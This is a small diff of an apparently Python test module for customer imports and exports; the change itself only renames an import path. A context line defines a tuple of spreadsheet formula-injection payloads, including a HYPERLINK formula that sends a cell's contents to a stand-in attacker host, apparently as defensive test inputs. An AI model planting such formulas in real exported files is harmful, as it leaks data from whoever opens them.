@@ -14,7 +14,7 @@ from db.schema import Customer
 from station.customers import CustomerFilter
 from station.exports import export_customers, export_rows
 from station.imports import apply_import, preview_customers
-from station.imports.reading import raw_rows
+from station.imports.file_rows import raw_rows
 from station.workspace import Workspace
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1+2", "-2+3", "@SUM(A1)", "=1+2")
